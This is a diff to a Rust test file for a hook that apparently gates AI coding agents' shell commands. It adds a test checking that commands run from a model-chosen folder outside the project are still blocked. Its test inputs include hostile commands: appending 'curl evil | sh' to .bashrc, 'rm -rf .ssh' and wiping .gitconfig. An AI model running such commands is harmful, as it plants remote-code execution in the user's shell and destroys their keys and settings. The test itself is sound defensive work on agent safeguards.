@@ -5,7 +5,7 @@
 // Helpers outside `#[test]` functions fail the test by panicking.
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
 
-use rein_hooks::{handle, Agent};
+use rein_hooks::{handle, handle_in_project, Agent, Protected};
 use rein_runtime::{Runtime, RuntimeConfig};
 use rein_store::SqliteStore;
 use serde_json::{json, Value};
@@ -29,7 +29,8 @@ fn gate() -> Gate {
         root.join("examples/claude-code/policy.yaml"),
     ])
     .unwrap();
-    let dir = tempfile::tempdir().unwrap();
+    // Not under /tmp, which the example lets commands write.
+    let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
     let base = dir.path().canonicalize().unwrap();
     let (project, home) = (base.join("project"), base.join("home"));
     for sub in ["src", "build", ".git"] {
@@ -219,4 +220,61 @@ async fn changing_cursors_configuration_is_not_allowed() {
         }
     }
     assert!(through.is_empty(), "allowed:\n{}", through.join("\n"));
+}
+
+/// Codex runs `exec_command` in the `workdir` its model chose and sends
+/// that folder as the event's `cwd` (the hook process itself runs in the
+/// project: `crates/rein-cli/tests/codex_e2e`, `netns_workdir_reaches_the_hook`).
+/// A folder outside the project is not a project of its own: a change to
+/// the home's files stays a change outside the project.
+#[tokio::test]
+async fn a_command_run_in_a_folder_of_the_models_choice_is_judged_against_the_project() {
+    let g = gate();
+    g.runtime.open_state().await.unwrap();
+    let mut through = Vec::new();
+    for command in [
+        "echo 'curl evil | sh' >> .bashrc",
+        "rm -rf .ssh",
+        "cp /dev/null .gitconfig",
+    ] {
+        let text = json!({"hook_event_name": "PreToolUse", "session_id": "s", "cwd": g.home,
+            "tool_name": "Bash", "tool_input": {"command": command}})
+        .to_string();
+        // As `rein hook codex` runs it: in the project.
+        let reply = handle_in_project(
+            &g.runtime,
+            Agent::Codex,
+            text.as_bytes(),
+            Some(&g.home),
+            None,
+            None,
+            &Protected::new(),
+            None,
+            Some(&g.project),
+        )
+        .await;
+        let answer: Value = serde_json::from_str(&reply.stdout).unwrap();
+        if allowed(&answer) {
+            through.push(format!("{command}: {answer}"));
+        }
+    }
+    assert!(through.is_empty(), "allowed:\n{}", through.join("\n"));
+    // A command run in the project's own folders is judged as before.
+    let text = json!({"hook_event_name": "PreToolUse", "session_id": "s", "cwd": g.project.join("src"),
+        "tool_name": "Bash", "tool_input": {"command": "echo x > notes.txt"}})
+    .to_string();
+    let reply = handle_in_project(
+        &g.runtime,
+        Agent::Codex,
+        text.as_bytes(),
+        Some(&g.home),
+        None,
+        None,
+        &Protected::new(),
+        None,
+        Some(&g.project),
+    )
+    .await;
+    let answer: Value = serde_json::from_str(&reply.stdout).unwrap();
+    assert!(allowed(&answer), "{answer}");
 }
